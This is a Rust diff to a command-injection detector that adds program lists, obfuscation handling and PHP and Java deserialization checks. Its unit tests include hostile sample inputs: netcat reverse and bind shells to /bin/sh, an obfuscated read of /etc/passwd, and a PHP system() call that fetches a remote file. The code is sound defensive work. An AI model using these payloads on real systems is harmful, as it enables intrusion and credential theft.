@@ -23,12 +23,18 @@
 /// Programs that commonly follow an injection.
 const PROGRAMS: &[&str] = &[
     "id", "whoami", "uname", "cat", "ls", "dir", "pwd", "echo", "ping", "sleep", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh", "ksh", "dash", "csh", "tcsh", "python", "python2", "python3", "perl", "ruby", "php", "node", "lua", "nslookup", "dig", "host", "ifconfig", "ipconfig", "netstat", "ps", "kill", "killall", "chmod", "chown", "rm", "mv", "cp", "touch", "mkdir", "head", "tail", "more", "less", "grep", "find", "awk", "sed", "xargs", "env", "printenv", "export", "set", "type", "systeminfo", "tasklist", "net", "powershell", "pwsh", "cmd", "certutil", "bitsadmin", "whoami.exe", "cmd.exe", "powershell.exe", "telnet", "ssh", "scp", "ftp", "tftp", "base64", "xxd", "od", "hexdump", "uptime", "hostname", "w", "who", "last", "passwd", "sudo", "su", "crontab", "nohup", "timeout", "eval", "exec", "sort", "uniq", "wc", "tac", "nl", "rev", "vi", "vim", "nano", "dd", "tar", "zip", "unzip", "gzip", "openssl", "socat", "mkfifo", "mknod", "useradd", "usermod", "shutdown", "reboot", "halt", "sysctl", "dmesg", "lsof", "arp", "route", "traceroute", "tracert", "nmap", "java", "gcc", "cc", "make", "mail", "sendmail", "file", "stat", "readlink", "realpath", "basename", "dirname", "true", "false", "test", "expr", "seq", "yes", "time", "date", "cal", "df", "du", "free", "top", "mount", "lsblk", "fdisk", "reg", "wmic", "regsvr32", "rundll32", "mshta", "cscript", "wscript", "start", "call", "copy", "del", "ver", "vol", "query", "schtasks", "sc", "which", "sysinfo", "whereis", "locate", "getent", "net.exe", "nbtstat", "nltest", "dsquery", "icacls", "attrib", "findstr", "more.com", "dig", "id.exe", "netsh",
+    "ansible", "ansible-playbook", "ansible-config", "ansible-vault", "ansible-galaxy", "ansible-inventory", "chef-client", "chef-run", "chef-vault", "chef-solo", "knife", "cscli", "kubectl", "docker", "podman", "terraform", "helm", "nice", "command", "builtin", "strace", "gdb", "busybox", "rsync", "wsl", "bcdedit", "vssadmin", "certreq", "msiexec", "forfiles",
 ];
+
+/// Words that run the command after them (`time curl ...`, `sudo id`, `nohup nc ...`): the
+/// word after one is in command position.
+const PREFIXES: &[&str] = &["time", "sudo", "nohup", "nice", "exec", "env", "command", "builtin", "xargs", "strace", "busybox", "timeout", "doas"];
 
 /// Programs no English sentence contains as a word: their presence after a separator is
 /// enough.
 const UNAMBIGUOUS: &[&str] = &[
     "whoami", "uname", "ifconfig", "ipconfig", "netstat", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh", "ksh", "nslookup", "systeminfo", "tasklist", "powershell", "pwsh", "certutil", "bitsadmin", "whoami.exe", "cmd.exe", "powershell.exe", "xxd", "hexdump", "printenv", "crontab", "nohup", "socat", "mkfifo", "useradd", "usermod", "sysctl", "dmesg", "lsof", "nmap", "sendmail", "readlink", "lsblk", "fdisk", "wmic", "regsvr32", "rundll32", "mshta", "cscript", "wscript", "schtasks", "python", "python2", "python3", "perl", "php", "chmod", "chown", "killall", "tftp", "openssl", "traceroute", "tracert", "ls", "pwd", "id", "dir", "cmd", "ping", "uptime", "hostname", "passwd", "sudo", "env", "xargs", "awk", "sed", "grep", "which", "sysinfo", "whereis", "getent", "nbtstat", "nltest", "dsquery", "icacls", "findstr", "netsh",
+    "ansible", "ansible-playbook", "ansible-config", "ansible-vault", "ansible-galaxy", "ansible-inventory", "chef-client", "chef-run", "chef-vault", "chef-solo", "cscli", "kubectl", "terraform", "strace", "busybox", "bcdedit", "vssadmin", "certreq", "msiexec", "forfiles",
 ];
 
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -78,6 +84,12 @@ fn normalize(v: &[u8]) -> Vec<u8> {
                 }
                 _ => out.push(b),
             },
+            // A bracket glob of one character inside a word (`/bi[n]/bash`).
+            b'[' if out.last().is_some_and(u8::is_ascii_alphanumeric) && v.get(i + 1).is_some_and(u8::is_ascii_alphanumeric) && v.get(i + 2) == Some(&b']') => {
+                out.extend(v.get(i + 1));
+                i += 3;
+                continue;
+            }
             b'^' if out.last().is_some_and(u8::is_ascii_alphanumeric) && v.get(i + 1).is_some_and(u8::is_ascii_alphanumeric) => {}
             b'$' => {
                 let rest = v.get(i + 1..).unwrap_or_default();
@@ -95,7 +107,7 @@ fn normalize(v: &[u8]) -> Vec<u8> {
                     }
                     continue;
                 }
-                if matches!(rest.first(), Some(b'@' | b'*' | b'1'..=b'9')) && out.last().is_some_and(u8::is_ascii_alphanumeric) {
+                if matches!(rest.first(), Some(b'@' | b'*' | b'?' | b'1'..=b'9')) && out.last().is_some_and(u8::is_ascii_alphanumeric) {
                     i += 2;
                     continue;
                 }
@@ -111,6 +123,8 @@ fn normalize(v: &[u8]) -> Vec<u8> {
 fn tokenize(v: &[u8]) -> Vec<Tok> {
     let s = String::from_utf8_lossy(v);
     let b = s.as_bytes();
+    // A value without blanks whose `+` are a form encoding's spaces (`&&+|+dir`).
+    let plus_blank = b.contains(&b'+') && !b.iter().any(|&c| c == b' ' || c == b'\t');
     let mut toks = Vec::new();
     let mut i = 0;
     let mut word = String::new();
@@ -149,6 +163,7 @@ fn tokenize(v: &[u8]) -> Vec<Tok> {
                 toks.push(Tok::Redirect);
             }
             b' ' | b'\t' | b',' | b'\'' | b'"' => flush(&mut word, &mut toks),
+            b'+' if plus_blank || i.checked_sub(1).and_then(|k| b.get(k)).is_some_and(|p| matches!(p, b';' | b'|' | b'&' | b'\n')) || b.get(i + 1).is_some_and(|n| matches!(n, b';' | b'|' | b'&')) => flush(&mut word, &mut toks),
             _ => {
                 if let Some(ch) = s.get(i..).and_then(|r| r.chars().next()) {
                     word.push(ch);
@@ -325,12 +340,103 @@ fn java_runtime_name(value: &[u8]) -> Option<String> {
     None
 }
 
+/// A word spelled with what a shell drops (`'c'url`, `c""at`, `c\at`, `who$@ami`, `c$?at`,
+/// `w^h^o^a^m^i`, `/bi[n]/bash`) inside its letters, that names a program of three letters or
+/// more once normalized: text has no such spelling (contractions such as `I'd` name none).
+fn obfuscated_program(value: &[u8]) -> Option<String> {
+    let boundary = |c: &u8| matches!(c, b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'(' | b')' | b'<' | b'>' | b',' | b'`' | b'{' | b'}' | b'+');
+    for raw in value.split(boundary) {
+        let mut inside = false;
+        for (k, &c) in raw.iter().enumerate() {
+            let obf = matches!(c, b'\'' | b'"' | b'\\' | b'^' | b'[') || c == b'$' && matches!(raw.get(k + 1), Some(b'@' | b'?' | b'*'));
+            if obf && raw.get(..k).is_some_and(|b| b.last().is_some_and(u8::is_ascii_alphabetic)) && raw.get(k + 1..).is_some_and(|a| a.iter().any(u8::is_ascii_alphabetic)) {
+                inside = true;
+                break;
+            }
+        }
+        if !inside {
+            continue;
+        }
+        let word: Vec<u8> = normalize(raw).into_iter().filter(|c| !matches!(c, b'\'' | b'"')).collect();
+        let word = String::from_utf8_lossy(&word);
+        if let Some((name, _)) = program(&word) {
+            if name.len() >= 3 && (name != "dir" && name != "set" && name != "type") {
+                return Some(name);
+            }
+        }
+    }
+    None
+}
+
+/// Code that runs a command or dumps the runtime, written in the languages that embed a shell:
+/// PHP's `system`, `exec`, `shell_exec`, `passthru`, `popen`, `proc_open`, `pcntl_exec` called
+/// with a string or a variable (`system('id')`, `exec($_GET['c'])`) and `phpinfo()`; Perl's
+/// `@{[ ... ]}` interpolation; the shell's arithmetic expansion `$(( ))`; a dotted name of Java's process classes with a gadget of the
+/// deserialization chains (`runtime.whileclosure`, `ProcessBuilder.evil.forclosure`).
+fn code_construct(ns: &str) -> Option<String> {
+    let l = ns.to_ascii_lowercase();
+    for f in ["system", "exec", "shell_exec", "passthru", "popen", "proc_open", "pcntl_exec", "phpinfo"] {
+        let mut from = 0;
+        while let Some(p) = l.get(from..).and_then(|r| r.find(f)) {
+            let at = from + p;
+            from = at + f.len();
+            let before = l.as_bytes().get(at.wrapping_sub(1)).copied();
+            if at > 0 && before.is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'.') {
+                continue;
+            }
+            let rest = l.get(at + f.len()..).unwrap_or_default().trim_start();
+            let Some(arg) = rest.strip_prefix('(') else { continue };
+            let arg = arg.trim_start();
+            if f == "phpinfo" && arg.starts_with(')') || f != "phpinfo" && arg.starts_with(['\'', '"', '$', '`']) {
+                return Some(format!("{f}()"));
+            }
+        }
+    }
+    if let Some(p) = ns.find("@{[") {
+        if ns.get(p..).is_some_and(|r| r.contains("]}")) {
+            return Some("perl-interpolation".into());
+        }
+    }
+    if let Some(p) = ns.find("$((") {
+        if ns.get(p..).is_some_and(|r| r.contains("))")) {
+            return Some("arithmetic-expansion".into());
+        }
+    }
+    None
+}
+
+/// A dotted name of Java's process classes (`Runtime`, `ProcessBuilder`) with a gadget class of
+/// the deserialization chains (a part ending in `closure`, `transformer` or `factory`:
+/// `runtime.whileclosure`, `ProcessBuilder.evil.forclosure`) or under `java`
+/// (`java.ProcessBuilder`, `java.evil.runtime`).
+fn java_gadget(value: &[u8]) -> Option<String> {
+    if !value.contains(&b'.') || !value.windows(7).any(|w| w.eq_ignore_ascii_case(b"runtime") || w.eq_ignore_ascii_case(b"builder")) {
+        return None;
+    }
+    let l = String::from_utf8_lossy(value).to_ascii_lowercase();
+    let ident = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '.';
+    for name in l.split(|c: char| !ident(c)).filter(|n| n.contains('.')) {
+        let parts: Vec<&str> = name.split('.').collect();
+        let process = parts.iter().any(|p| *p == "runtime" || *p == "processbuilder");
+        let gadget = parts.iter().any(|p| p.len() > 7 && (p.ends_with("closure") || p.ends_with("transformer") || p.ends_with("factory")));
+        if process && (gadget || parts.first() == Some(&"java")) && parts.len() >= 2 && parts.iter().all(|p| !p.is_empty()) {
+            return Some("java-gadget".into());
+        }
+    }
+    None
+}
+
 pub fn detect_cmdi(value: &[u8]) -> Option<String> {
     if value.len() < 2 {
         return None;
     }
-    if let Some(hit) = java_runtime_name(value) {
+    if let Some(hit) = java_runtime_name(value).or_else(|| java_gadget(value)) {
         return Some(hit);
+    }
+    // The serialized Java object's header in base64 or hex (any value, also one without shell
+    // syntax).
+    if [&b"rO0AB"[..], b"KztAAU", b"Cs7QAF"].iter().any(|m| value.windows(m.len()).any(|w| w == *m)) || value.windows(8).any(|w| w.eq_ignore_ascii_case(b"aced0005")) {
+        return Some("java-serialized".into());
     }
     // Without shell syntax (operators, quotes, escapes, expansions, paths, comparisons) the
     // tokens are all words, and only the first can be in command position: unless it names a
@@ -377,15 +483,33 @@ pub fn detect_cmdi(value: &[u8]) -> Option<String> {
             return Some("${expansion}".into());
         }
     }
+    if let Some(hit) = obfuscated_program(value).or_else(|| code_construct(&ns)) {
+        return Some(hit);
+    }
     let toks = tokenize(&norm);
     if let Some(hit) = cmd_statement(&toks) {
         return Some(hit);
+    }
+    // Whether each token is in command position: at the start, after an operator, or after a
+    // prefix word that is (`time curl ...`, `sudo -- id`).
+    let mut cmd_pos = vec![false; toks.len()];
+    let mut prefixed = vec![false; toks.len()];
+    for i in 0..toks.len() {
+        let before = if i == 0 { None } else { toks.get(i - 1) };
+        let pos = before.is_none() || matches!(before, Some(Tok::Sep | Tok::Subst | Tok::Group));
+        let after_prefix = i > 0 && cmd_pos.get(i - 1) == Some(&true) && matches!(before, Some(Tok::Word(w)) if PREFIXES.iter().any(|p| w.eq_ignore_ascii_case(p)));
+        if let Some(c) = cmd_pos.get_mut(i) {
+            *c = pos || after_prefix;
+        }
+        if let Some(c) = prefixed.get_mut(i) {
+            *c = after_prefix;
+        }
     }
     for (i, t) in toks.iter().enumerate() {
         let Tok::Word(w) = t else { continue };
         let before = if i == 0 { None } else { toks.get(i - 1) };
         let at_start = before.is_none();
-        let after_sep = matches!(before, Some(Tok::Sep | Tok::Subst | Tok::Group));
+        let after_sep = matches!(before, Some(Tok::Sep | Tok::Subst | Tok::Group)) || prefixed.get(i) == Some(&true);
         if !at_start && !after_sep {
             continue;
         }
@@ -405,6 +529,19 @@ pub fn detect_cmdi(value: &[u8]) -> Option<String> {
             continue;
         }
         if after_sep && net {
+            return Some(name);
+        }
+        // The command's words (up to the next operator) and what ends them.
+        let args: Vec<&str> = toks.get(i + 1..).unwrap_or_default().iter().map_while(|t| if let Tok::Word(a) = t { Some(a.as_str()) } else { None }).collect();
+        let ended = matches!(toks.get(i + 1 + args.len()), Some(Tok::Sep));
+        // A whole command between two operators (`; cscli alerts list\n`), or a hyphenated
+        // program (`ansible-config`), after an operator.
+        if after_sep && unambiguous && (name.contains('-') || ended && name.len() >= 4 && !matches!(before, Some(Tok::Group))) {
+            return Some(name);
+        }
+        // Options and arguments (`nc -lvvp 4445 -e /bin/sh`): a program at the start with an
+        // option and another shell argument.
+        if unambiguous && args.iter().filter(|a| shell_arg(a)).count() >= 2 && args.iter().any(|a| a.len() > 1 && a.starts_with('-') && a.as_bytes().get(1).is_some_and(u8::is_ascii_alphabetic)) {
             return Some(name);
         }
         if after_sep {
@@ -488,6 +625,36 @@ mod tests {
             assert!(hit(s), "{s}");
         }
         for s in ["/files/rock & roll/view", "/search/Tom & Jerry/", "/api/v1/users/id", "/shop/cat/toys", "/docs/My Document.pdf", "/blog/sleep well tonight/", "/p/cat toys for kids", "/files/which one/view", "/blog/for sale (cheap)/", "/faq/if you like it/", "/for all in (the list) do it"] {
+            assert!(!hit(s), "{s}");
+        }
+    }
+
+    #[test]
+    fn spellings_a_shell_drops() {
+        for s in ["'c'url localhost", "www.google.com;c$?at+/et$?c/pas$?swd", "&&+|+dir c:/", "/bi[n]/bash", "w^h^o^a^m^i", "c\\url evil.example"] {
+            assert!(hit(s), "{s}");
+        }
+        for s in ["I'd like that", "don't", "it's 'cat' time", "a+b+c", "C++ and C#; more later", "see [n] notes", "arr[i]"] {
+            assert!(!hit(s), "{s}");
+        }
+    }
+
+    #[test]
+    fn prefixes_options_and_whole_commands() {
+        for s in ["time curl coreruleset.org", "sudo -- id", "nohup nc -e /bin/sh 10.0.0.1 4444", "nc -lvvp 4445 -e /bin/sh &", "time; ansible-config dump\n", "time; cscli alerts list\n", "chef-vault -i secret\n"] {
+            assert!(hit(s), "{s}");
+        }
+        for s in ["time flies like an arrow", "nice ping pong table", "sudo make me a sandwich", "Time: 10:00\nPlace: front desk", "git commit -m \"fix typo\" && git push", "npm install --save lodash"] {
+            assert!(!hit(s), "{s}");
+        }
+    }
+
+    #[test]
+    fn code_that_runs_commands() {
+        for s in ["phpinfo()", ";phpinfo()", "system('echo x')", "exec(\"id\")", "<?php system(\"wget https://e.example/x.txt\");?>", "passthru($_GET['c'])", "@{[sort { $a <=> $b } (3,2,1)]}", "$(($() 42))", "{\"test\": \"KztAAU\"}", "{\"Cs7QAF\": \"test\"}", "rO0ABXNyABFqYXZh", "aced00057372", "runtime.whileclosure", "ProcessBuilder.evil.forclosure", "java.ProcessBuilder", "java.evil.runtime"] {
+            assert!(hit(s), "{s}");
+        }
+        for s in ["the system (as a whole)", "exec(command_line)", "os.system(command_line)", "my_system('x')", "runtime.version", "a@{b}", "$(( see", "JavaScript runtime", "ecosystem('x')"] {
             assert!(!hit(s), "{s}");
         }
     }
